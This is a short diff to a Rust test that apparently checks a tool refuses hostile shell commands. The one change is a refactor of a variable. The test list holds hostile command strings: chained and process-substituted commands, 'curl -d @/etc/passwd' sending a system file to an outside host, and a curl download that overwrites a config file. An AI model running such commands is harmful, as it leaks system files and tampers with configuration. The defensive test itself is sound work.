@@ -88,7 +88,7 @@ fn a_hostile_command_runs_nothing_and_says_why() {
         format!("curl https://a.example.com && {touch}"),
         format!("curl <({touch}) https://a.example.com"),
         format!("curl -K {} https://a.example.com", marker.display()),
-        touch.clone(),
+        touch,
         "curl -d @/etc/passwd https://a.example.com".to_owned(),
         "curl -o .toolcrib/config.toml https://a.example.com -k".to_owned(),
     ] {
